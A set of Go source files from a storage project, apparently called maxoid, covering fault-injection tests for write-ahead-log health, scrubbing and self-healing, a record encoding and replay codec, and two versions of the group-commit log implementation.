	reopen(t, env)
	if rows := kvRows(t, env.DB); len(rows) != 2 {
		t.Fatalf("recovered %d rows, want 2 (residue discarded)", len(rows))
	}
	if got := env.Store.Health(); got != health.Healthy {
		t.Fatalf("health after reopen = %v, want healthy", got)
	}
}

func TestHealFoldsResidueAndRestoresService(t *testing.T) {
	env, st, _ := openHealthEnv(t)
	defer env.Close()
	seedKV(t, env, 2)

	// Exhaust fsync retries: the record is appended (memory mutated) but
	// never acknowledged durable.
	fault.Enable(1, fault.Spec{Point: "wal.fsync.transient", Prob: 1, Op: fault.OpTransient})
	if _, err := env.DB.Exec("INSERT INTO kv (v) VALUES (?)", "v3"); !errors.Is(err, fault.ErrTransient) {
		t.Fatalf("fsync-exhausted insert err = %v, want ErrTransient", err)
	}
	fault.Disable()
	if got := env.Store.Health(); got != health.ReadOnly {
		t.Fatalf("health = %v, want read-only", got)
	}

	// The fault cleared: Heal reconciles memory with disk (fresh
	// snapshot + empty WAL) and restores Healthy.
	if err := env.Store.Heal(); err != nil {
		t.Fatalf("heal: %v", err)
	}
	if got := env.Store.Health(); got != health.Healthy {
		t.Fatalf("health after heal = %v, want healthy", got)
	}

	// Writes flow again and the healed state includes the residue row —
	// it was folded into the snapshot, so memory and disk agree.
	mustExec(t, env.DB, "INSERT INTO kv (v) VALUES (?)", "v4")
	reopen(t, env)
	if rows := kvRows(t, env.DB); len(rows) != 4 {
		t.Fatalf("recovered %d rows after heal, want 4", len(rows))
	}
	if _, err := st.ReadFile("snapshot"); err != nil {
		t.Fatalf("heal did not publish a snapshot: %v", err)
	}
}

func TestScrubDetectsLostDurableRecords(t *testing.T) {
	env, st, _ := openHealthEnv(t)
	defer env.Close()
	seedKV(t, env, 3)

	// Sanity: a clean store scrubs clean.
	if err := env.Store.ScrubOnce(); err != nil {
		t.Fatalf("clean scrub: %v", err)
	}

	// Chop acknowledged frames off the WAL behind the store's back —
	// the disk "losing" synced writes. Scrub must detect the hole and
	// poison the store.
	data := readFile(t, st, "wal")
	rewrite(t, st, "wal", data[:len(data)/2])
	err := env.Store.ScrubOnce()
	if !errors.Is(err, wal.ErrBroken) {
		t.Fatalf("scrub of truncated wal = %v, want ErrBroken", err)
	}
	if got := env.Store.Health(); got != health.Poisoned {
		t.Fatalf("health = %v, want poisoned", got)
	}
	// Poisoned is terminal: heal must refuse.
	if err := env.Store.Heal(); !errors.Is(err, wal.ErrBroken) {
		t.Fatalf("heal of poisoned store = %v, want ErrBroken", err)
	}
}

func TestScrubDetectsSnapshotCorruption(t *testing.T) {
	env, st, _ := openHealthEnv(t)
	defer env.Close()
	seedKV(t, env, 3)
	if err := env.Store.Snapshot(); err != nil {
		t.Fatalf("snapshot: %v", err)
	}
	if err := env.Store.ScrubOnce(); err != nil {
		t.Fatalf("clean scrub: %v", err)
	}

	// Flip a byte inside the published snapshot: CRC verification must
	// catch it and poison the store.
	snap := readFile(t, st, "snapshot")
	snap[len(snap)/2] ^= 0x01
	rewrite(t, st, "snapshot", snap)
	if err := env.Store.ScrubOnce(); !errors.Is(err, wal.ErrBroken) {
		t.Fatalf("scrub of corrupt snapshot = %v, want ErrBroken", err)
	}
	if got := env.Store.Health(); got != health.Poisoned {
		t.Fatalf("health = %v, want poisoned", got)
	}
}

func TestScrubTransientFaultDegrades(t *testing.T) {
	env, _, _ := openHealthEnv(t)
	defer env.Close()
	seedKV(t, env, 1)

	fault.Enable(1, fault.Spec{Point: "wal.scrub", Prob: 1, Times: 1, Op: fault.OpTransient})
	defer fault.Disable()
	if err := env.Store.ScrubOnce(); !errors.Is(err, fault.ErrTransient) {
		t.Fatalf("scrub err = %v, want ErrTransient", err)
	}
	if got := env.Store.Health(); got != health.Degrading {
		t.Fatalf("health = %v, want degrading", got)
	}
	// Degrading still accepts writes (they are being retried, not shed).
	mustExec(t, env.DB, "INSERT INTO kv (v) VALUES (?)", "v2")
	// The next clean scrub plus Heal returns the store to Healthy.
	if err := env.Store.ScrubOnce(); err != nil {
		t.Fatalf("clean scrub after fault: %v", err)
	}
	if err := env.Store.Heal(); err != nil {
		t.Fatalf("heal: %v", err)
	}
	if got := env.Store.Health(); got != health.Healthy {
		t.Fatalf("health = %v, want healthy", got)
	}
}

func TestScrubPermanentFaultPoisons(t *testing.T) {
	env, _, _ := openHealthEnv(t)
	defer env.Close()
	seedKV(t, env, 1)

	fault.Enable(1, fault.Spec{Point: "wal.scrub", Prob: 1, Times: 1})
	defer fault.Disable()
	if err := env.Store.ScrubOnce(); !errors.Is(err, wal.ErrBroken) {
		t.Fatalf("scrub err = %v, want ErrBroken", err)
	}
	if got := env.Store.Health(); got != health.Poisoned {
		t.Fatalf("health = %v, want poisoned", got)
	}
}

// TestPoisonedStoreOperations is the satellite-1 regression: every
// durable entry point on a poisoned store must return ErrBroken
// immediately — in particular Snapshot must never attempt a publish
// over a corrupt tail, and Close must not report a clean shutdown.
func TestPoisonedStoreOperations(t *testing.T) {
	env, st, _ := openHealthEnv(t)
	seedKV(t, env, 2)

	// Poison via an injected permanent append fault (torn frame).
	fault.Enable(1, fault.Spec{Point: "wal.append", Prob: 1, Times: 1, Op: fault.OpPartial, Frac: 0.5})
	if _, err := env.DB.Exec("INSERT INTO kv (v) VALUES (?)", "v3"); !errors.Is(err, fault.ErrInjected) {
		t.Fatalf("torn insert err = %v, want injected", err)
	}
	fault.Disable()
	if env.Store.Broken() == nil {
		t.Fatal("store not poisoned after torn append")
	}
	if got := env.Store.Health(); got != health.Poisoned {
		t.Fatalf("health = %v, want poisoned", got)
	}

	snapBefore, snapErrBefore := st.ReadFile("snapshot")
	if err := env.Store.Snapshot(); !errors.Is(err, wal.ErrBroken) {
		t.Fatalf("Snapshot on poisoned store = %v, want ErrBroken", err)
	}
	// No publish may have happened: the snapshot file is bit-identical
	// to before (here: still absent).
	snapAfter, snapErrAfter := st.ReadFile("snapshot")
	if string(snapBefore) != string(snapAfter) || (snapErrBefore == nil) != (snapErrAfter == nil) {
		t.Fatal("Snapshot on poisoned store touched the snapshot file")
	}
	if err := env.Store.ScrubOnce(); !errors.Is(err, wal.ErrBroken) {
		t.Fatalf("ScrubOnce on poisoned store = %v, want ErrBroken", err)
	}
	if err := env.Store.Close(); !errors.Is(err, wal.ErrBroken) {
		t.Fatalf("Close on poisoned store = %v, want ErrBroken", err)
	}

	// Recovery is the way out: reopen recovers the durable prefix.
	reopen(t, env)
	defer env.Close()
	if rows := kvRows(t, env.DB); len(rows) != 2 {
		t.Fatalf("recovered %d rows, want 2", len(rows))
	}
	if err := env.Store.Close(); err != nil {
		t.Fatalf("clean close after recovery: %v", err)
	}
	env.Store = nil
}

func TestRollbackAllowedWhileReadOnly(t *testing.T) {
	env, _, _ := openHealthEnv(t)
	defer env.Close()
	seedKV(t, env, 2)

	mustExec(t, env.DB, "BEGIN")
	mustExec(t, env.DB, "INSERT INTO kv (v) VALUES (?)", "v3")

	// Degrade mid-transaction: the next durable write exhausts retries.
	fault.Enable(1, fault.Spec{Point: "wal.append.transient", Prob: 1, Op: fault.OpTransient})
	if _, err := env.DB.Exec("COMMIT"); err == nil {
		t.Fatal("commit should have failed while faults rage")
	}
	fault.Disable()
	if got := env.Store.Health(); got != health.ReadOnly {
		t.Fatalf("health = %v, want read-only", got)
	}

	// The application must still be able to back out: ROLLBACK is the
	// one mutating batch a read-only store admits.
	if env.DB.InTxn() {
		if _, err := env.DB.Exec("ROLLBACK"); err != nil {
			t.Fatalf("rollback while read-only: %v", err)
		}
	}
	if env.DB.InTxn() {
		t.Fatal("transaction still open after rollback")
	}
	// And recovery agrees with the abort.
	reopen(t, env)
	if rows := kvRows(t, env.DB); len(rows) != 2 {
		t.Fatalf("recovered %d rows, want 2", len(rows))
	}
}

func TestMaintenanceLoopAutoHeals(t *testing.T) {
	env, _, _ := openHealthEnv(t)
	defer env.Close()
	seedKV(t, env, 2)

	fault.Enable(1, fault.Spec{Point: "wal.append.transient", Prob: 1, Op: fault.OpTransient})
	if _, err := env.DB.Exec("INSERT INTO kv (v) VALUES (?)", "v3"); err == nil {
		t.Fatal("insert should have exhausted retries")
	}
	fault.Disable()
	if got := env.Store.Health(); got != health.ReadOnly {
		t.Fatalf("health = %v, want read-only", got)
	}

	stop := env.Store.StartMaintenance(time.Millisecond)
	defer stop()
	deadline := time.Now().Add(5 * time.Second)
	for env.Store.Health() != health.Healthy {
		if time.Now().After(deadline) {
			t.Fatalf("maintenance loop never healed the store (health %v)", env.Store.Health())
		}
		time.Sleep(time.Millisecond)
	}
	mustExec(t, env.DB, "INSERT INTO kv (v) VALUES (?)", "v4")
}
