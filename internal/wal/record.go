package wal

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io/fs"
	"math"

	"maxoid/internal/sqldb"
	"maxoid/internal/vfs"
)

// Logical record payloads. The FS stream ("fs") carries one tagged
// operation per record; a DB stream ("db:<name>") carries either a
// statement unit ('U') or an ID-counter snapshot ('C'). All integers
// little-endian; strings and byte slices are length-prefixed.

// ErrCorrupt reports a record whose frame checksummed correctly but
// whose payload does not decode — this is never expected from our own
// encoder and recovery treats it as fatal corruption (unlike a torn
// tail, which is a normal crash artifact).
var ErrCorrupt = errors.New("wal: corrupt record payload")

// --- primitive codec ---

func appendUint32(b []byte, v uint32) []byte {
	var tmp [4]byte
	binary.LittleEndian.PutUint32(tmp[:], v)
	return append(b, tmp[:]...)
}

func appendUint64(b []byte, v uint64) []byte {
	var tmp [8]byte
	binary.LittleEndian.PutUint64(tmp[:], v)
	return append(b, tmp[:]...)
}

func appendBytes(b, p []byte) []byte {
	b = appendUint32(b, uint32(len(p)))
	return append(b, p...)
}

func appendString(b []byte, s string) []byte {
	b = appendUint32(b, uint32(len(s)))
	return append(b, s...)
}

type reader struct {
	b   []byte
	err error
}

func (r *reader) fail() {
	if r.err == nil {
		r.err = ErrCorrupt
	}
}

func (r *reader) u8() byte {
	if r.err != nil || len(r.b) < 1 {
		r.fail()
		return 0
	}
	v := r.b[0]
	r.b = r.b[1:]
	return v
}

func (r *reader) u32() uint32 {
	if r.err != nil || len(r.b) < 4 {
		r.fail()
		return 0
	}
	v := binary.LittleEndian.Uint32(r.b)
	r.b = r.b[4:]
	return v
}

func (r *reader) u64() uint64 {
	if r.err != nil || len(r.b) < 8 {
		r.fail()
		return 0
	}
	v := binary.LittleEndian.Uint64(r.b)
	r.b = r.b[8:]
	return v
}

func (r *reader) bytes() []byte {
	n := int(r.u32())
	if r.err != nil || n < 0 || len(r.b) < n {
		r.fail()
		return nil
	}
	v := r.b[:n]
	r.b = r.b[n:]
	return v
}

func (r *reader) str() string { return string(r.bytes()) }

// --- FS records ---

// FS operation tags.
const (
	fsCreate    = 'c'
	fsWriteAt   = 'w'
	fsTruncate  = 't'
	fsMkdir     = 'd'
	fsRemove    = 'r'
	fsRemoveAll = 'R'
	fsRename    = 'n'
	fsChmod     = 'm'
	fsChown     = 'o'
)

func encodeFSCreate(path string, mode fs.FileMode, uid int) []byte {
	b := []byte{fsCreate}
	b = appendString(b, path)
	b = appendUint32(b, uint32(mode))
	return appendUint64(b, uint64(int64(uid)))
}

func encodeFSWriteAt(path string, off int64, data []byte) []byte {
	b := []byte{fsWriteAt}
	b = appendString(b, path)
	b = appendUint64(b, uint64(off))
	return appendBytes(b, data)
}

func encodeFSTruncate(path string, size int64) []byte {
	b := []byte{fsTruncate}
	b = appendString(b, path)
	return appendUint64(b, uint64(size))
}

func encodeFSMkdir(path string, mode fs.FileMode, uid int) []byte {
	b := []byte{fsMkdir}
	b = appendString(b, path)
	b = appendUint32(b, uint32(mode))
	return appendUint64(b, uint64(int64(uid)))
}

func encodeFSPath(tag byte, path string) []byte {
	return appendString([]byte{tag}, path)
}

func encodeFSRename(oldpath, newpath string) []byte {
	b := []byte{fsRename}
	b = appendString(b, oldpath)
	return appendString(b, newpath)
}

func encodeFSChmod(path string, mode fs.FileMode) []byte {
	b := []byte{fsChmod}
	b = appendString(b, path)
	return appendUint32(b, uint32(mode))
}

func encodeFSChown(path string, uid int) []byte {
	b := []byte{fsChown}
	b = appendString(b, path)
	return appendUint64(b, uint64(int64(uid)))
}

// applyFS replays one FS record against fsys as root. Replay is
// idempotent at the operation level (create-on-existing and
// remove-missing are no-ops), which keeps recovery insensitive to a
// snapshot that already contains a WAL record's effect.
func applyFS(fsys *vfs.FS, payload []byte) error {
	if len(payload) == 0 {
		return ErrCorrupt
	}
	r := &reader{b: payload[1:]}
	switch payload[0] {
	case fsCreate:
		path := r.str()
		mode := fs.FileMode(r.u32())
		uid := int(int64(r.u64()))
		if r.err != nil {
			return r.err
		}
		h, err := fsys.Open(vfs.Root, path, vfs.O_WRONLY|vfs.O_CREATE, mode)
		if err != nil {
			return err
		}
		h.Close()
		if uid != 0 {
			return fsys.Chown(vfs.Root, path, uid)
		}
		return nil
	case fsWriteAt:
		path := r.str()
		off := int64(r.u64())
		data := r.bytes()
		if r.err != nil {
			return r.err
		}
		h, err := fsys.Open(vfs.Root, path, vfs.O_WRONLY|vfs.O_CREATE, 0o666)
		if err != nil {
			return err
		}
		_, werr := h.WriteAt(data, off)
		h.Close()
		return werr
	case fsTruncate:
		path := r.str()
		size := int64(r.u64())
		if r.err != nil {
			return r.err
		}
		h, err := fsys.Open(vfs.Root, path, vfs.O_WRONLY, 0)
		if err != nil {
			return err
		}
		terr := h.Truncate(size)
		h.Close()
		return terr
	case fsMkdir:
		path := r.str()
		mode := fs.FileMode(r.u32())
		uid := int(int64(r.u64()))
		if r.err != nil {
			return r.err
		}
		if err := fsys.Mkdir(vfs.Root, path, mode); err != nil {
			if errors.Is(err, vfs.ErrExist) {
				return nil
			}
			return err
		}
		if uid != 0 {
			return fsys.Chown(vfs.Root, path, uid)
		}
		return nil
	case fsRemove:
		path := r.str()
		if r.err != nil {
			return r.err
		}
		if err := fsys.Remove(vfs.Root, path); err != nil && !errors.Is(err, vfs.ErrNotExist) {
			return err
		}
		return nil
	case fsRemoveAll:
		path := r.str()
		if r.err != nil {
			return r.err
		}
		return fsys.RemoveAll(vfs.Root, path)
	case fsRename:
		oldpath := r.str()
		newpath := r.str()
		if r.err != nil {
			return r.err
		}
		if err := fsys.Rename(vfs.Root, oldpath, newpath); err != nil && !errors.Is(err, vfs.ErrNotExist) {
			return err
		}
		return nil
	case fsChmod:
		path := r.str()
		mode := fs.FileMode(r.u32())
		if r.err != nil {
			return r.err
		}
		return fsys.Chmod(vfs.Root, path, mode)
	case fsChown:
		path := r.str()
		uid := int(int64(r.u64()))
		if r.err != nil {
			return r.err
		}
		return fsys.Chown(vfs.Root, path, uid)
	}
	return fmt.Errorf("%w: unknown fs op %q", ErrCorrupt, payload[0])
}

// --- DB records ---

const (
	dbUnit     = 'U'
	dbCounters = 'C'

	unitFlagErrored = 1 << 0
	unitFlagSync    = 1 << 1
)

// Value tags.
const (
	valNull  = 'n'
	valInt   = 'i'
	valFloat = 'f'
	valText  = 's'
	valBlob  = 'b'
	valTrue  = 'T'
	valFalse = 'F'
)

func appendValue(b []byte, v sqldb.Value) ([]byte, error) {
	switch x := v.(type) {
	case nil:
		return append(b, valNull), nil
	case int64:
		return appendUint64(append(b, valInt), uint64(x)), nil
	case float64:
		return appendUint64(append(b, valFloat), math.Float64bits(x)), nil
	case string:
		return appendString(append(b, valText), x), nil
	case []byte:
		return appendBytes(append(b, valBlob), x), nil
	case bool:
		if x {
			return append(b, valTrue), nil
		}
		return append(b, valFalse), nil
	}
	return b, fmt.Errorf("wal: unencodable value type %T", v)
}

func (r *reader) value() sqldb.Value {
	switch r.u8() {
	case valNull:
		return nil
	case valInt:
		return int64(r.u64())
	case valFloat:
		return math.Float64frombits(r.u64())
	case valText:
		return r.str()
	case valBlob:
		return append([]byte(nil), r.bytes()...)
	case valTrue:
		return true
	case valFalse:
		return false
	}
	r.fail()
	return nil
}

// encodeDBUnit serializes a statement unit.
func encodeDBUnit(u sqldb.JournalUnit) ([]byte, error) {
	b := []byte{dbUnit}
	var flags byte
	if u.Errored {
		flags |= unitFlagErrored
	}
	if u.Sync {
		flags |= unitFlagSync
	}
	b = append(b, flags)
	b = appendUint32(b, uint32(u.N))
	b = appendString(b, u.SQL)
	b = appendUint32(b, uint32(len(u.Args)))
	var err error
	for _, v := range u.Args {
		if b, err = appendValue(b, v); err != nil {
			return nil, err
		}
	}
	return b, nil
}

func encodeDBCounters(cs sqldb.Counters) []byte {
	b := []byte{dbCounters}
	b = appendUint64(b, uint64(cs.LastInsertID))
	b = appendUint32(b, uint32(len(cs.NextIDs)))
	names := make([]string, 0, len(cs.NextIDs))
	for k := range cs.NextIDs {
		names = append(names, k)
	}
	// Deterministic encoding order (snapshot bytes are seed-stable).
	for i := 1; i < len(names); i++ {
		for j := i; j > 0 && names[j] < names[j-1]; j-- {
			names[j], names[j-1] = names[j-1], names[j]
		}
	}
	for _, k := range names {
		b = appendString(b, k)
		b = appendUint64(b, uint64(cs.NextIDs[k]))
	}
	return b
}

// applyDB replays one DB record against db.
func applyDB(db *sqldb.DB, payload []byte) error {
	if len(payload) == 0 {
		return ErrCorrupt
	}
	r := &reader{b: payload[1:]}
	switch payload[0] {
	case dbUnit:
		flags := r.u8()
		n := int(r.u32())
		sql := r.str()
		argc := int(r.u32())
		if r.err != nil || argc < 0 || argc > len(r.b) {
			r.fail()
			return r.err
		}
		var args []sqldb.Value
		if argc > 0 {
			args = make([]sqldb.Value, argc)
			for i := range args {
				args[i] = r.value()
			}
		}
		if r.err != nil {
			return r.err
		}
		return db.ReplayUnit(sql, args, n, flags&unitFlagErrored != 0)
	case dbCounters:
		cs := sqldb.Counters{LastInsertID: int64(r.u64()), NextIDs: map[string]int64{}}
		count := int(r.u32())
		for i := 0; i < count && r.err == nil; i++ {
			name := r.str()
			cs.NextIDs[name] = int64(r.u64())
		}
		if r.err != nil {
			return r.err
		}
		db.RestoreCounters(cs)
		return nil
	}
	return fmt.Errorf("%w: unknown db record %q", ErrCorrupt, payload[0])
}
