package wal

import (
	"errors"
	"fmt"
	"sync"
	"time"

	"maxoid/internal/fault"
	"maxoid/internal/health"
	"maxoid/internal/metrics"
)

// Fault points on the durability-critical paths (see internal/fault).
// The permanent points model corruption: an append fault tears a frame
// mid-write, an fsync fault loses the acknowledgment, a snapshot fault
// aborts compaction before the atomic rename — all of which poison the
// log (fail-stop) so no acknowledged write can ever land after a hole.
// The *.transient points model EIO/ENOSPC-style faults that may clear:
// they perform no work and are absorbed by bounded retry; only
// exhaustion drops the store to read-only (never poisons).
var (
	faultAppend          = fault.Declare("wal.append", "WAL frame append: tear the frame with a partial write")
	faultFsync           = fault.Declare("wal.fsync", "WAL group-commit fsync: fail before acknowledging")
	faultSnapshot        = fault.Declare("wal.snapshot", "snapshot write: fail before the atomic rename publishes it")
	faultAppendTransient = fault.Declare("wal.append.transient", "WAL frame append: transient EIO-style fault before any byte is written")
	faultFsyncTransient  = fault.Declare("wal.fsync.transient", "WAL fsync: transient EIO-style fault; the fsync may be retried")
)

// ErrBroken reports an operation on a poisoned log: a previous append
// or fsync failed with permanent corruption, so the on-disk tail is
// suspect and the only safe continuation is a crash-and-recover cycle.
var ErrBroken = errors.New("wal: log poisoned by an earlier write failure")

// Log is the append-only record log with group commit.
//
// Append assigns the next LSN and buffers the frame into the OS file
// without syncing; Sync(lsn) makes everything up to lsn durable. Many
// goroutines calling Sync concurrently coalesce into one fsync: the
// leader syncs the current tail, and every follower whose target LSN
// that covered returns without touching the disk (group commit).
//
// Failure handling is classified (internal/health). Transient faults
// are retried with bounded exponential backoff; exhaustion drops the
// store to read-only, where appends are rejected with
// health.ErrReadOnly until the store heals. Permanent faults —
// injected corruption or an unclassifiable write error — poison the
// log: every subsequent Append fails with ErrBroken. Both disciplines
// keep the durable prefix property: the set of records that survive a
// crash is always a prefix of the append order, so torn-tail
// truncation at recovery cannot discard an acknowledged record.
type Log struct {
	mu       sync.Mutex // appends, LSN assignment, poison state
	f        File
	appended uint64 // last LSN appended
	synced   uint64 // last LSN known durable
	broken   error
	buf      []byte

	syncMu     sync.Mutex // serializes fsync; the group-commit leader lock
	noCoalesce bool

	tr *health.Tracker

	histAppend *metrics.Histogram
	histFsync  *metrics.Histogram
	ctrRejects *metrics.Counter
}

// newLog wraps an open file whose valid content ends at LSN last.
func newLog(f File, last uint64, noCoalesce bool, reg *metrics.Registry, tr *health.Tracker) *Log {
	l := &Log{f: f, appended: last, synced: last, noCoalesce: noCoalesce, tr: tr}
	if reg != nil {
		l.histAppend = reg.Histogram("wal.append")
		l.histFsync = reg.Histogram("wal.fsync")
		l.ctrRejects = reg.Counter("wal.degraded.rejects")
	}
	return l
}

// poisonLocked marks permanent corruption. Caller holds l.mu.
func (l *Log) poisonLocked(err error) {
	l.broken = fmt.Errorf("%w: %v", ErrBroken, err)
	l.tr.Poison(l.broken)
}

// gateLocked rejects appends on an unwritable log: ErrBroken when
// poisoned, health.ErrReadOnly when degraded past the retry budget.
// ErrReadOnly is strictly pre-mutation here — the gate fires before
// any byte of the frame is written. Caller holds l.mu.
func (l *Log) gateLocked() error {
	if l.broken != nil {
		return l.broken
	}
	if !l.tr.Writable() {
		l.noteReject()
		return health.ErrReadOnly
	}
	return nil
}

// noteReject counts one degraded-mode write rejection.
func (l *Log) noteReject() {
	if l.ctrRejects != nil {
		l.ctrRejects.Inc()
	}
}

// Append frames a record on stream and writes it to the log file,
// returning its LSN. The record is not durable until a Sync covering
// the LSN returns nil. Transient faults are retried under the health
// tracker's budget before anything is written; on exhaustion the
// store is read-only and the last transient error comes back (the
// caller's in-memory state may already be ahead of the log, so this is
// not a clean gate rejection — see health.Tracker.Run).
func (l *Log) Append(stream string, payload []byte) (uint64, error) {
	start := time.Now()
	l.mu.Lock()
	defer l.mu.Unlock()
	if err := l.gateLocked(); err != nil {
		return 0, err
	}
	// Transient-fault window: nothing has been written yet, so each
	// retry is a clean re-attempt. Exhaustion marked the store
	// read-only inside Run.
	if err := l.tr.Run(func() error { return fault.Hit(faultAppendTransient) }); err != nil {
		return 0, err
	}
	lsn := l.appended + 1
	l.buf = appendFrame(l.buf[:0], Record{LSN: lsn, Stream: stream, Payload: payload})
	frame := l.buf
	if k, err := fault.PartialWrite(faultAppend, len(frame)); err != nil {
		// Model the torn write: the prefix reaches the file, the tail
		// never does, and the log is poisoned.
		if k > 0 {
			l.f.Write(frame[:k])
		}
		l.poisonLocked(err)
		return 0, err
	}
	if _, err := l.f.Write(frame); err != nil {
		// A failed real write may have persisted an unknown prefix;
		// appending after it could strand later frames behind garbage.
		// Transient causes park the store read-only (heal rebuilds the
		// file); anything else is corruption.
		if health.Classify(err) == health.ClassTransient {
			l.tr.MarkReadOnly()
			return 0, err
		}
		l.poisonLocked(err)
		return 0, err
	}
	l.appended = lsn
	if l.histAppend != nil {
		l.histAppend.Observe(time.Since(start))
	}
	return lsn, nil
}

// Sync makes every record with LSN ≤ target durable. Concurrent
// callers coalesce: one leader fsyncs the tail and followers whose
// target was covered return immediately. Sync is allowed while the
// store is read-only — it only makes already-appended records durable;
// rejection of new work happens at append time.
func (l *Log) Sync(target uint64) error {
	l.mu.Lock()
	if l.broken != nil {
		err := l.broken
		l.mu.Unlock()
		return err
	}
	if !l.noCoalesce && l.synced >= target {
		l.mu.Unlock()
		return nil
	}
	l.mu.Unlock()

	l.syncMu.Lock()
	defer l.syncMu.Unlock()

	l.mu.Lock()
	if l.broken != nil {
		err := l.broken
		l.mu.Unlock()
		return err
	}
	if !l.noCoalesce && l.synced >= target {
		// The previous leader's fsync covered us: group commit.
		l.mu.Unlock()
		return nil
	}
	tail := l.appended
	l.mu.Unlock()

	start := time.Now()
	err := fault.Hit(faultFsync)
	if err == nil {
		// fsync is idempotent, so the real sync sits inside the retry
		// loop alongside the injected transient point.
		err = l.tr.Run(func() error {
			if e := fault.Hit(faultFsyncTransient); e != nil {
				return e
			}
			return l.f.Sync()
		})
	}

	l.mu.Lock()
	defer l.mu.Unlock()
	if err != nil {
		if health.Classify(err) == health.ClassTransient {
			// Retries exhausted: the record is in the file but not
			// durable. The store is read-only (Run marked it); the
			// record stays un-acked and either becomes durable with a
			// later sync/heal or is truncated by crash recovery.
			return err
		}
		l.poisonLocked(err)
		return err
	}
	if tail > l.synced {
		l.synced = tail
	}
	if l.histFsync != nil {
		l.histFsync.Observe(time.Since(start))
	}
	return nil
}

// LastAppended returns the LSN of the last appended record.
func (l *Log) LastAppended() uint64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.appended
}

// LastSynced returns the highest LSN known durable.
func (l *Log) LastSynced() uint64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.synced
}

// Broken returns the poison error, nil if the log is healthy.
func (l *Log) Broken() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.broken
}

// swapFile atomically replaces the log's file with an empty one iff
// the tail still sits at LSN cut (no append raced the caller's
// snapshot). Returns whether the swap happened. LSNs keep counting
// from cut — they are never reused, which is what lets recovery
// filter WAL records against a snapshot's cut LSN.
func (l *Log) swapFile(cut uint64, open func() (File, error)) (bool, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.broken != nil || l.appended != cut {
		return false, l.broken
	}
	nf, err := open()
	if err != nil {
		return false, err
	}
	l.f.Close()
	l.f = nf
	l.synced = cut
	return true, nil
}

// close releases the log file. A poisoned log returns its poison error
// (wrapping ErrBroken) after closing: callers must not mistake closing
// a corrupt log for a clean shutdown, and nothing is synced — the tail
// is suspect.
func (l *Log) close() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.broken != nil {
		l.f.Close()
		return l.broken
	}
	l.f.Sync()
	return l.f.Close()
}
