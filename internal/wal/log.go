package wal

import (
	"errors"
	"fmt"
	"sync"
	"time"

	"maxoid/internal/fault"
	"maxoid/internal/metrics"
)

// Fault points on the durability-critical paths (see internal/fault).
// An append fault can tear a frame mid-write; an fsync fault loses the
// acknowledgment; a snapshot fault aborts compaction before the
// atomic rename. All three poison the log (fail-stop) so no
// acknowledged write can ever land after a hole.
var (
	faultAppend   = fault.Declare("wal.append", "WAL frame append: tear the frame with a partial write")
	faultFsync    = fault.Declare("wal.fsync", "WAL group-commit fsync: fail before acknowledging")
	faultSnapshot = fault.Declare("wal.snapshot", "snapshot write: fail before the atomic rename publishes it")
)

// ErrBroken reports an operation on a poisoned log: a previous append
// or fsync failed, so the on-disk tail is suspect and the only safe
// continuation is a crash-and-recover cycle.
var ErrBroken = errors.New("wal: log poisoned by an earlier write failure")

// Log is the append-only record log with group commit.
//
// Append assigns the next LSN and buffers the frame into the OS file
// without syncing; Sync(lsn) makes everything up to lsn durable. Many
// goroutines calling Sync concurrently coalesce into one fsync: the
// leader syncs the current tail, and every follower whose target LSN
// that covered returns without touching the disk (group commit).
//
// Any write or sync failure — injected or real — poisons the log:
// every subsequent Append/Sync fails with ErrBroken. This fail-stop
// discipline keeps the durable prefix property: the set of records
// that survive a crash is always a prefix of the append order, so
// torn-tail truncation at recovery cannot discard an acknowledged
// record.
type Log struct {
	mu       sync.Mutex // appends, LSN assignment, poison state
	f        File
	appended uint64 // last LSN appended
	synced   uint64 // last LSN known durable
	broken   error
	buf      []byte

	syncMu     sync.Mutex // serializes fsync; the group-commit leader lock
	noCoalesce bool

	histAppend *metrics.Histogram
	histFsync  *metrics.Histogram
}

// newLog wraps an open file whose valid content ends at LSN last.
func newLog(f File, last uint64, noCoalesce bool, reg *metrics.Registry) *Log {
	l := &Log{f: f, appended: last, synced: last, noCoalesce: noCoalesce}
	if reg != nil {
		l.histAppend = reg.Histogram("wal.append")
		l.histFsync = reg.Histogram("wal.fsync")
	}
	return l
}

// Append frames a record on stream and writes it to the log file,
// returning its LSN. The record is not durable until a Sync covering
// the LSN returns nil.
func (l *Log) Append(stream string, payload []byte) (uint64, error) {
	start := time.Now()
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.broken != nil {
		return 0, l.broken
	}
	lsn := l.appended + 1
	l.buf = appendFrame(l.buf[:0], Record{LSN: lsn, Stream: stream, Payload: payload})
	frame := l.buf
	if k, err := fault.PartialWrite(faultAppend, len(frame)); err != nil {
		// Model the torn write: the prefix reaches the file, the tail
		// never does, and the log is poisoned.
		if k > 0 {
			l.f.Write(frame[:k])
		}
		l.broken = fmt.Errorf("%w: %v", ErrBroken, err)
		return 0, err
	}
	if _, err := l.f.Write(frame); err != nil {
		l.broken = fmt.Errorf("%w: %v", ErrBroken, err)
		return 0, err
	}
	l.appended = lsn
	if l.histAppend != nil {
		l.histAppend.Observe(time.Since(start))
	}
	return lsn, nil
}

// Sync makes every record with LSN ≤ target durable. Concurrent
// callers coalesce: one leader fsyncs the tail and followers whose
// target was covered return immediately.
func (l *Log) Sync(target uint64) error {
	l.mu.Lock()
	if l.broken != nil {
		err := l.broken
		l.mu.Unlock()
		return err
	}
	if !l.noCoalesce && l.synced >= target {
		l.mu.Unlock()
		return nil
	}
	l.mu.Unlock()

	l.syncMu.Lock()
	defer l.syncMu.Unlock()

	l.mu.Lock()
	if l.broken != nil {
		err := l.broken
		l.mu.Unlock()
		return err
	}
	if !l.noCoalesce && l.synced >= target {
		// The previous leader's fsync covered us: group commit.
		l.mu.Unlock()
		return nil
	}
	tail := l.appended
	l.mu.Unlock()

	start := time.Now()
	err := fault.Hit(faultFsync)
	if err == nil {
		err = l.f.Sync()
	}

	l.mu.Lock()
	defer l.mu.Unlock()
	if err != nil {
		l.broken = fmt.Errorf("%w: %v", ErrBroken, err)
		return err
	}
	if tail > l.synced {
		l.synced = tail
	}
	if l.histFsync != nil {
		l.histFsync.Observe(time.Since(start))
	}
	return nil
}

// LastAppended returns the LSN of the last appended record.
func (l *Log) LastAppended() uint64 {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.appended
}

